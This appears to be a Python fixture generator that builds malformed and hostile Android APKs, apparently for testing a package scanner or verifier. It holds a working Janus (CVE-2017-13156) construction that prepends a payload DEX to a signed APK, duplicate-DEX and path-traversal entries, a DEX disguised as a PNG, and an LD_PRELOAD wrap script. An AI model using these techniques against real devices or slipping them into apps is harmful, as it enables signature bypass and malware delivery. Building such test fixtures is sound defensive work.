"""Faults of the archive and of binary files, which no change of the source could make.

Run as: faults.py NAME STAGE KEY CERTIFICATE OUT, where STAGE holds unsigned.apk, signed.apk, v1.apk and payload.dex.
"""

import hashlib
import os
import sqlite3
import struct
import sys
import tempfile
import zipfile
import zlib

from pack import DEFLATED, STORED, Entry, read, write
from sign import Signer, signed

MANIFEST = "AndroidManifest.xml"
WHOLE_PACKAGE = {}  # name -> function(stage): the finished package
ENTRIES = {}  # name -> function(entries, stage): changes what is then written and signed


def on_package(function):
    WHOLE_PACKAGE[function.__name__.replace("_", "-")] = function


def on_entries(function):
    ENTRIES[function.__name__.replace("_", "-")] = function


def load(stage, name):
    with open(os.path.join(stage, name), "rb") as file:
        return file.read()


def find(entries, name):
    return next(entry for entry in entries if entry.name == name.encode())


def replace(entries, name, content, method=DEFLATED):
    index = entries.index(find(entries, name))
    entries[index] = Entry(name, content, method)
    return entries[index]


# The archive, before it is signed.


@on_entries
def duplicate_entry(entries, stage):
    # The stranger first: a reader that keeps the last of two sees the genuine code and runs, or scans, the other.
    entries.insert(1, Entry("classes.dex", load(stage, "payload.dex")))


@on_entries
def local_name_differs(entries, stage):
    find(entries, "assets/guide.html").local_name = b"assets/gu1de.html"


@on_entries
def encrypted_flag(entries, stage):
    find(entries, MANIFEST).flags |= 0x0001


@on_entries
def unknown_method(entries, stage):
    # In both headers, so that the method is the only thing wrong; the data is stored.
    replace(entries, MANIFEST, content(stage, MANIFEST), STORED).written_method = 0x1234


@on_entries
def path_traversal(entries, stage):
    entries.append(Entry("assets/../../../../../data/local/tmp/yunling.txt", b"This must never leave the archive.\n"))


@on_entries
def resources_compressed(entries, stage):
    replace(entries, "resources.arsc", content(stage, "resources.arsc"))


@on_entries
def dex_in_picture(entries, stage):
    entries.append(Entry("assets/banner.png", load(stage, "payload.dex"), STORED))


@on_entries
def wrap_script(entries, stage):
    script = b'#!/system/bin/sh\nLD_PRELOAD=/data/local/tmp/hook.so exec "$@"\n'
    entries.append(Entry("lib/arm64-v8a/wrap.sh", script))


@on_entries
def id_database(entries, stage):
    entries.append(Entry("assets/citizens.db", citizens()))


@on_entries
def manifest_junk_chunk(entries, stage):
    # Between string pool and resource map, with a type that no node of the format has: Android steps over it.
    manifest = content(stage, MANIFEST)
    pool_end = 8 + struct.unpack_from("<I", manifest, 12)[0]
    junk = struct.pack("<HHI", 0x7777, 8, 40) + b"junk" * 8
    manifest = manifest[:4] + struct.pack("<I", len(manifest) + len(junk)) + manifest[8:pool_end] + junk + manifest[pool_end:]
    replace(entries, MANIFEST, manifest)


@on_entries
def manifest_wrong_type(entries, stage):
    # The file says 0x0003 (XML) in its first two bytes. Android never looks at them.
    replace(entries, MANIFEST, struct.pack("<H", 0x0008) + content(stage, MANIFEST)[2:])


# The package, after it was signed.


@on_package
def trailing_bytes(stage):
    return load(stage, "signed.apk") + b"bytes after the end record, which its comment length does not cover\n"


@on_package
def tampered(stage):
    """Changes one word of the text of the app, check sum and all, as an attacker would who cannot sign."""
    apk = bytearray(load(stage, "signed.apk"))
    table = content(stage, "resources.arsc")
    old, new = "请输入密码".encode(), "请输入口令".encode()
    assert table.count(old) == 1 and apk.count(old) == 1
    at = apk.index(old)
    apk[at : at + len(old)] = new
    before, after = zlib.crc32(table), zlib.crc32(table.replace(old, new))
    assert apk.count(struct.pack("<I", before)) == 2
    return bytes(apk).replace(struct.pack("<I", before), struct.pack("<I", after))


@on_package
def v1_only(stage):
    return load(stage, "v1.apk")


@on_package
def janus(stage):
    """CVE-2017-13156: one file that is a DEX from the front and a signed archive from the back."""
    dex, apk = bytearray(load(stage, "payload.dex")), load(stage, "v1.apk")
    dex += bytes(-len(dex) % 4)
    shift = len(dex)
    moved = bytearray(apk)
    end = apk.rindex(b"PK\x05\x06")
    at = struct.unpack_from("<I", apk, end + 16)[0]
    struct.pack_into("<I", moved, end + 16, at + shift)
    while at < end:
        offset = struct.unpack_from("<I", apk, at + 42)[0]
        struct.pack_into("<I", moved, at + 42, offset + shift)
        at += 46 + sum(struct.unpack_from("<HHH", apk, at + 28))
    both = dex + moved
    struct.pack_into("<I", both, 32, len(both))
    both[12:32] = hashlib.sha1(both[32:]).digest()
    struct.pack_into("<I", both, 8, zlib.adler32(bytes(both[12:])))
    return bytes(both)


# What goes into them.


def content(stage, name):
    with zipfile.ZipFile(os.path.join(stage, "unsigned.apk")) as archive:
        return archive.read(name)


def citizens():
    """People who cannot exist: the region 539999 was never given out and nobody in it was born in 1900. The check digits are right."""
    rows = [("张样例", "19000101", "001"), ("李样例", "19000214", "002"), ("王样例", "19000320", "003"), ("赵样例", "19000412", "004")]
    with tempfile.TemporaryDirectory() as directory:
        path = os.path.join(directory, "citizens.db")
        database = sqlite3.connect(path)
        database.execute("PRAGMA page_size = 1024")
        database.execute("CREATE TABLE citizen (id INTEGER PRIMARY KEY, name TEXT, id_card TEXT, service TEXT)")
        for name, birth, order in rows:
            number = "539999" + birth + order
            database.execute("INSERT INTO citizen (name, id_card, service) VALUES (?, ?, ?)", (name, number + check_digit(number), "居住证申领"))
        database.commit()
        database.close()
        with open(path, "rb") as file:
            data = bytearray(file.read())
    # The version of SQLite that wrote the file is the one field that differs from machine to machine.
    struct.pack_into(">I", data, 96, 3040000)
    return bytes(data)


def check_digit(number):
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return "10X98765432"[sum(int(digit) * weight for digit, weight in zip(number, weights)) % 11]


def main(name, stage, key, certificate, out):
    if name in WHOLE_PACKAGE:
        package = WHOLE_PACKAGE[name](stage)
    else:
        entries = read(os.path.join(stage, "unsigned.apk"))
        ENTRIES[name](entries, stage)
        package = signed(write(entries), Signer(key, certificate))
    with open(out, "wb") as file:
        file.write(package)


if __name__ == "__main__":
    main(*sys.argv[1:])
